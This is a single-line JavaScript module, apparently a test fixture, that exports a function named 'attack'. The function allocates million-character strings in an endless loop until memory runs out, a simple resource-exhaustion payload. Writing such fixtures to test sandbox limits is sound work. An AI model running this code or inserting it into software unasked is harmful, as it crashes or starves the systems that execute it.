exports.attack = () => { const kept = []; for (;;) kept.push("x".repeat(1_000_000) + kept.length); };
